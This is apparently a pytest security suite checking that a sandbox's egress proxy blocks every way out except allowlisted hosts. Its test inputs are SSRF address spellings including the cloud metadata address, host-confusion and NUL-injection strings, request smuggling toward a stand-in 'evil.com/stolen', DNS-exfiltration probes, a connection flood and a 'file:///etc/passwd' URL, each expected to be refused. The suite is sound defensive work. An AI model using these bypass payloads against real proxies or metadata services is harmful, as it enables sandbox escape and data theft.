"""Threats G: every way out of a sandbox but the one the policy names, and that one misused."""

from __future__ import annotations

import contextlib
import json
import shutil
import socket
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from driver import Driver
from hosted import Hosted
from internet import ENV, Internet

# Asks the proxy by hand, and prints the first line of each answer.
ASK = """
import socket, sys
def ask(data, read=4096):
    with socket.create_connection(("127.0.0.1", 3128), 20) as s:
        s.sendall(data)
        try: return s.recv(read)
        except OSError as error: return repr(error).encode()
for target in sys.argv[1:]:
    print(ask(f"CONNECT {target} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n".encode()).split(b"\\r\\n")[0].decode())
"""


class Counting:
    """Listeners of the host on every address it has; how often anybody came."""

    def __init__(self) -> None:
        self.sockets = [socket.create_server(("::", 0), family=socket.AF_INET6, dualstack_ipv6=True)]
        self.port = self.sockets[0].getsockname()[1]

    def accepted(self) -> int:
        self.sockets[0].setblocking(False)
        found = 0
        with contextlib.suppress(BlockingIOError):
            while True:
                self.sockets[0].accept()[0].close()
                found += 1
        return found


@pytest.fixture
def listener() -> Iterator[Counting]:
    counting = Counting()
    yield counting
    counting.sockets[0].close()


def own_addresses() -> list[str]:
    """Addresses of the machine the tests run on."""
    found = {entry[4][0] for entry in socket.getaddrinfo(socket.gethostname(), None)} | {"127.0.0.1", "::1"}
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe, contextlib.suppress(OSError):
        probe.connect(("1.1.1.1", 9))
        found.add(probe.getsockname()[0])
    return sorted(str(each) for each in found)


DIRECT = """
import json, socket, sys
port, *addresses = json.loads(sys.argv[1])
for address in [*addresses, "1.1.1.1", "169.254.169.254", "2606:4700::1111", "fe80::1", "255.255.255.255", "224.0.0.1"]:
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW):
        try:
            with socket.socket(family, kind) as s:
                s.settimeout(5)
                s.connect((address, port))
                s.send(b"x")
                print("out", address, kind)
        except OSError as error: pass
for name in ["example.org", "ok.com", "localhost.example.org"]:
    try: print("resolved", socket.getaddrinfo(name, 80))
    except OSError: pass
"""


@pytest.mark.parametrize("network", [[], ["ok.com:443"], ["*"]])
def test_nothing_is_reached_past_the_proxy(box: Driver, listener: Counting, network: list[str]) -> None:
    words = ["-c", DIRECT, json.dumps([listener.port, *own_addresses()])]
    said = box.ask(programs=["python3"], arguments=words, network=network)
    assert (said["stdout"], said["stderr"], said["exit_code"]) == ("", "", 0)
    assert listener.accepted() == 0
    assert said["connections"] == []


def test_without_a_network_the_proxy_is_not_there(box: Driver) -> None:
    said = box.ask(programs=["python3"], arguments=["-c", ASK, "ok.com:443"], network=[])
    assert said["exit_code"] == 1
    assert "OSError" in said["stderr"]


def test_a_public_address_has_no_route_although_the_host_has_one(online: Driver, internet: Internet) -> None:
    before = len(internet.seen())
    code = (
        "import socket\nfor a in ('93.184.216.34', '2a00:1450:4001::34'):\n"
        "  try: socket.create_connection((a, 80), 5); print('out')\n  except OSError as e: print(e.errno)"
    )
    assert online.python(code, network=["*"])["stdout"].split() == ["101", "101"]
    unproxied = {"HTTPS_PROXY": "", "https_proxy": "", "http_proxy": "", "NO_PROXY": "*"}
    words = ["-sS", "-m", "5", "https://ok.com/", "https://93.184.216.34/"]
    said = online.ask(programs=["curl"], arguments=words, network=["*"], env=unproxied)
    assert (said["stdout"], said["connections"]) == ("", [])
    assert len(internet.seen()) == before


SPELLINGS = [
    "127.0.0.1", "127.1", "0", "0.0.0.0", "2130706433", "0x7f000001", "017700000001", "127.0.0.1.nip.io", "localhost",
    "[::1]", "[::]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]", "[::127.0.0.1]",
    "[fe80::1]", "[fd00::2]", "169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "10.0.0.1",
    "[::ffff:169.254.169.254]", "[fd00:ec2::254]", "192.168.0.1", "100.100.100.200", "168.63.129.16", "192.0.0.192",
]  # fmt: skip


def test_the_hosts_own_and_private_addresses_are_refused_in_every_spelling(box: Driver, listener: Counting) -> None:
    targets = [f"{spelling}:{listener.port}" for spelling in (*SPELLINGS, *own_addresses())]
    said = box.ask(programs=["python3"], arguments=["-c", ASK, *targets], network=["*"], limits={"wall": 60})
    answers = said["stdout"].splitlines()
    assert len(answers) == len(targets), said
    allowed = {"private_address", "bad_host", "unknown_host"}
    assert {answer.removeprefix("HTTP/1.1 403 ") for answer in answers} <= allowed, answers
    assert listener.accepted() == 0
    assert all(one["address"] is None for one in said["connections"])


@pytest.mark.parametrize("name", ["mixed.org", "mixed6.org", "private.org", "metadata.org", "loop.org", "own.org"])
def test_a_name_that_leads_to_a_private_address_is_refused_even_if_it_has_a_public_one_too(
    online: Driver, internet: Internet, name: str
) -> None:
    before = len(internet.seen())
    said = online.ask(
        programs=["curl"], arguments=["-sS", f"http://{name}/"], network=[f"{name}:80", f"{name}:443"], env=ENV
    )
    assert "is not a public address" in said["stdout"]
    (connection,) = said["connections"]
    assert (connection["code"], connection["address"]) == ("private_address", None)
    assert len(internet.seen()) == before


HOSTS = [
    "ok.com.evil.com:80", "evil-ok.com:80", "ok.com.:80", "ok.com:22", "user@ok.com:80", "ok.com@evil.com:80",
    "evil.com#.ok.com:80", "%6fk.com:80", "\u043ek.com:80", "ok.com\r\nX: y:80", "a" * 300 + ".ok.com:80", "ok.com",
    "ok.com:80:443", "ok.com:", "http://ok.com:80", "93.184.216.34:80", "[2a00:1450:4001::34]:80", "www.ok.com:80",
]  # fmt: skip


def test_only_the_true_host_on_its_port_passes(online: Driver) -> None:
    good = online.ask(programs=["python3"], arguments=["-c", ASK, "OK.com:80"], network=["ok.com:80"])
    assert good["stdout"] == "HTTP/1.1 200 Connection established\n"
    said = online.ask(programs=["python3"], arguments=["-c", ASK, *HOSTS], network=["ok.com:80"])
    answers = said["stdout"].splitlines()
    assert len(answers) == len(HOSTS), said
    assert all(answer.startswith(("HTTP/1.1 403 ", "HTTP/1.1 400 ")) for answer in answers), answers
    assert all(one["address"] is None for one in said["connections"])


def test_a_nul_in_a_name_is_no_end_of_it(online: Driver) -> None:
    code = ASK + 'print(ask(b"CONNECT evil.com\\0.ok.com:80 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"))'
    said = online.python(code, network=["*.ok.com:80", "ok.com:80"])
    assert "400 proxy_request_invalid" in said["stdout"]


def test_a_redirect_is_judged_again(online: Driver, internet: Internet) -> None:
    said = online.ask(programs=["curl"], arguments=["-sSL", "http://ok.com/away"], network=["ok.com:80"], env=ENV)
    assert [one["code"] for one in said["connections"]] == ["ok", "destination_not_allowed"]
    assert not any("stolen" in line for line in internet.seen())


def test_a_connection_to_one_host_carries_no_request_for_another(online: Driver, internet: Internet) -> None:
    code = ASK + (
        "a = b'GET http://ok.com/keep HTTP/1.1\\r\\nHost: ok.com\\r\\nConnection: keep-alive\\r\\n\\r\\n'\n"
        "b = b'GET http://evil.com/stolen HTTP/1.1\\r\\nHost: evil.com\\r\\n\\r\\n'\n"
        "ask(a + b, 1 << 20); ask(a.replace(b'Host: ok.com', b'Host: evil.com'))\n"
    )
    online.python(code, network=["ok.com:80"])
    assert not any("stolen" in line or "evil" in line for line in internet.seen())


def test_other_proxy_protocols_are_not_spoken(online: Driver) -> None:
    code = ASK + (
        "print(ask(b'\\x05\\x01\\x00')[:12])\n"  # SOCKS 5
        "print(ask(b'\\x04\\x01\\x00\\x50' + bytes((93, 184, 216, 34)) + b'\\0')[:12])\n"  # SOCKS 4
        "print(ask(b'CONNECT-UDP ok.com:80 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')[:12])\n"
        "print(ask(b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n')[:12])\n"
        "print(ask(b'CONNECT 127.0.0.1:3128 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')[:12])\n"
    )
    said = online.python(code, network=["*"], limits={"wall": 60})
    answers = said["stdout"].splitlines()
    assert len(answers) == 5, said
    assert all(answer in {"b'HTTP/1.1 400'", "b'HTTP/1.1 403'", "b'HTTP/1.1 504'"} for answer in answers), answers


SOCKETS = """
import ctypes, errno, json
libc = ctypes.CDLL(None, use_errno=True)
opened = []
for family in range(46):
    for kind in range(16):
        for protocol in (0, 1, 6, 17, 132, 255, 262):
            for high in (0, 1 << 32):
                r = libc.syscall(41, ctypes.c_long(family | high), ctypes.c_long(kind), ctypes.c_long(protocol))
                if r >= 0: opened.append((family, kind, protocol)); libc.close(r)
print(json.dumps(sorted(set(opened))))
"""


def test_with_a_network_only_tcp_sockets_can_be_opened(box: Driver) -> None:
    said = box.python(SOCKETS, network=["ok.com:443"])
    assert json.loads(said["stdout"]) == [[2, 1, 0], [2, 1, 6], [10, 1, 0], [10, 1, 6]]


def test_kernel_modules_of_tcp_cannot_be_asked_for(box: Driver) -> None:
    code = (
        "import socket\ns = socket.create_connection(('127.0.0.1', 3128))\n"
        "try: s.setsockopt(6, 31, b'tls'); print('loaded')\nexcept OSError as e: print(e.errno)"
    )
    assert box.python(code, network=["ok.com:443"])["stdout"] == "92\n"


def test_two_calls_with_a_network_cannot_meet(box: Driver) -> None:
    listening = (
        "import socket\ns = socket.create_server(('0.0.0.0', 5555)); s.settimeout(2)\n"
        "try: s.accept(); print('met')\nexcept TimeoutError: print('alone')"
    )
    calling = (
        "import socket, time\nend = time.monotonic() + 1.5\n"
        "while time.monotonic() < end:\n"
        "  try: socket.create_connection(('127.0.0.1', 5555), 1); print('met')\n  except OSError: pass\n"
        "  time.sleep(0.05)\nprint('alone')"
    )
    requests = [{"programs": ["python3"], "arguments": ["-c", code], "network": ["*"]} for code in (listening, calling)]
    answers = box.ask(do="gather", requests=requests)["answers"]
    assert [answer["stdout"] for answer in answers] == ["alone\n", "alone\n"]


def test_the_network_inside_cannot_be_changed(box: Driver) -> None:
    script = (
        "cat /proc/net/dev | grep -v -e lo: -e Inter -e face; cat /proc/net/route | grep -v Iface;"
        "for f in ip_unprivileged_port_start conf/all/forwarding ip_forward; do"
        " echo 1 > /proc/sys/net/ipv4/$f && echo wrote $f; done; true"
    )
    assert box.sh(script, "cat", "grep", network=["*"])["stdout"] == ""
    code = (
        "import fcntl, socket, struct\ns = socket.socket()\n"
        "for call in (0x8914, 0x8916, 0x890b):\n"
        "  try: fcntl.ioctl(s, call, struct.pack('16sH22x', b'lo', 0)); print('changed')\n  except OSError: pass\n"
        "for reuse in (0, 15):\n  t = socket.socket()\n"
        "  if reuse: t.setsockopt(socket.SOL_SOCKET, reuse, 1)\n"
        "  try: t.bind(('127.0.0.1', 3128)); t.listen(); print('took the proxy')\n  except OSError: pass"
    )
    said = box.python(code, network=["*"])
    assert (said["stdout"], said["stderr"]) == ("", "")


def test_names_carry_nothing_out(box: Driver) -> None:
    code = (
        "import socket\nfor n in range(500):\n"
        "  try: socket.getaddrinfo(f'secret{n}.ok.com', 443); print('resolved')\n  except OSError: pass"
    )
    said = box.python(code, network=["ok.com:443"])
    assert (said["stdout"], said["exit_code"], said["connections"]) == ("", 0, [])
    targets = [f"secret{n}.ok.com:443" for n in range(50)]
    said = box.ask(programs=["python3"], arguments=["-c", ASK, *targets], network=["ok.com:443"])
    # Judged before anything is looked up.
    assert {one["code"] for one in said["connections"]} == {"destination_not_allowed"}


FLOOD = """
import socket, sys
made = 0
for n in range(10_000):
    try:
        s = socket.create_connection(("127.0.0.1", 3128), 20)
        s.sendall(b"CONNECT evil.com:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
        s.recv(100); s.close(); made += 1
    except ConnectionError: pass
print(made)
"""


def test_ten_thousand_connections_end_at_the_cap_and_leave_other_calls_alone(box: Driver) -> None:
    flood = {"programs": ["python3"], "arguments": ["-c", FLOOD], "network": ["ok.com:443"], "limits": {"wall": 60}}
    other = {"programs": ["echo"], "arguments": ["here"]}
    flooded, *others = box.ask(120, do="gather", requests=[flood, *[other] * 10])["answers"]
    assert flooded["status"] == "exited"
    assert len(flooded["connections"]) == 257
    assert int(flooded["stdout"]) <= 257
    assert {one["code"] for one in flooded["connections"]} == {"destination_not_allowed", "too_many_connections"}
    assert [one["stdout"] for one in others] == ["here\n"] * 10


def test_more_than_the_call_may_receive_is_cut(online: Driver) -> None:
    said = online.ask(
        programs=["curl"],
        arguments=["-sS", "-o", "/dev/null", "http://ok.com/big"],
        network=["ok.com:80"],
        env=ENV,
    )
    assert said["exit_code"] not in (0, None)
    (connection,) = said["connections"]
    assert connection["code"] == "too_much_data"
    assert connection["received"] <= 64 << 20


def test_slow_and_endless_requests_end_with_the_call(box: Driver) -> None:
    code = (
        "import socket, time\nheld = []\n"
        "for n in range(40):\n"
        "  s = socket.create_connection(('127.0.0.1', 3128), 5); s.sendall(b'CONNECT ok'); held.append(s)\n"
        "big = socket.create_connection(('127.0.0.1', 3128), 5)\n"
        "try:\n  while True: big.sendall(b'X-A: ' + b'a' * 65536)\nexcept OSError: print('refused')"
    )
    said = box.python(code, network=["ok.com:443"], limits={"wall": 3})
    assert said["status"] in {"timeout", "exited"}
    assert len(said["connections"]) <= 41
    assert box.sh("echo here")["stdout"] == "here\n"


def test_a_worker_has_no_network_that_nobody_records(box: Driver) -> None:
    said = box.ask(do="worker", kind="worker", programs=["cat"], network=["ok.com:443"], lines=[])
    assert said["error"]["code"] == "network_not_recorded"


@pytest.mark.parametrize("rule", ["", "*:443", "ok.com", "127.0.0.1:80", "[::1]:80", "OK.com:443", "localhost:80"])
def test_a_plan_with_a_rule_that_is_none_does_not_run(box: Driver, rule: str) -> None:
    assert box.sh("echo ran", network=[rule])["error"]["code"] == "network_invalid"


# -- the whole host ----------------------------------------------------------------------------------------------------

POLICY = """
[commands]
allow = [
  "curl -sS {url}",
  { run = "curl -sS --max-time {int:1..9} {url}", network = ["www.ok.com:443"] },
  { run = "curl --silent {text}", network = [] },
]
[network]
allow = ["ok.com:443", "*.six.org:443"]
"""


@pytest.fixture(scope="module")
def connected(internet: Internet) -> Iterator[Hosted]:
    """A host on the small internet."""
    folder = Path(tempfile.mkdtemp(prefix="toolhost-test-", dir="/tmp"))
    folder.chmod(0o755)
    hosted = Hosted(folder, prefix=internet.prefix(), probe=POLICY, host='[network]\ndeny = ["bad.six.org"]\n')
    assert hosted.ask(do="facts")["problems"] == []
    yield hosted
    hosted.close()
    shutil.rmtree(folder, ignore_errors=True)


def test_a_connection_is_a_record_between_the_intent_and_the_outcome(connected: Hosted) -> None:
    said = connected.run("curl", "-sS", "https://ok.com/x")
    assert (said["status"], said["stdout"]) == ("ok", "hello from ok.com\n"), said
    assert said["sandbox"]["network"] == ["ok.com:443", "*.six.org:443", "!bad.six.org"]
    records = [record for record in connected.records() if record["call_id"] == said["call_id"]]
    assert [record["event"] for record in records] == ["tool.intent", "egress.connection", "tool.outcome"]
    details = records[1]["details"]
    assert (records[1]["category"], records[1]["level"]) == ("security", "INFO")
    assert (details["host"], details["port"], details["address"]) == ("ok.com", 443, "93.184.216.34")
    assert (details["code"], details["tool"]) == ("ok", "probe.curl")
    assert details["sent_bytes"] > 0
    assert details["received_bytes"] > 0
    assert records[0]["details"]["plan"]["network"] == said["sandbox"]["network"]


def test_a_rule_has_its_own_hosts_in_place_of_the_policys(connected: Hosted) -> None:
    said = connected.run("curl", "-sS", "--max-time", "5", "https://www.ok.com/x")
    assert (said["status"], said["stdout"]) == ("ok", "hello from www.ok.com\n"), said
    assert said["sandbox"]["network"] == ["www.ok.com:443"]
    denied = connected.run("curl", "-sS", "--max-time", "5", "https://ok.com/x")
    assert (denied["status"], denied["error"]["code"]) == ("denied", "destination_not_allowed")
    offline = connected.run("curl", "--silent", "https://ok.com/x")
    assert (offline["status"], offline["sandbox"]["network"]) == ("error", [])


@pytest.mark.parametrize(
    ("url", "code"),
    [
        ("https://evil.com/", "destination_not_allowed"),
        ("http://ok.com/", "destination_not_allowed"),
        ("https://ok.com:8443/", "destination_not_allowed"),
        ("https://bad.six.org/", "destination_not_allowed"),
        ("https://user@ok.com/", "bad_host"),
        ("https://169.254.169.254/", "destination_not_allowed"),
        ("https://2852039166/", "bad_host"),
        ("https://{ok.com,evil.com}/", "bad_host"),
        ("https://ok.com/{a,b}", "bad_url"),
        ("file:///etc/passwd", "bad_url"),
    ],
)
def test_an_address_outside_the_rules_is_denied_before_anything_runs(connected: Hosted, url: str, code: str) -> None:
    said = connected.run("curl", "-sS", url)
    assert (said["status"], said["error"]["code"]) == ("denied", code)
    events = [record["event"] for record in connected.records() if record["call_id"] == said["call_id"]]
    assert events == ["command_blocked"]
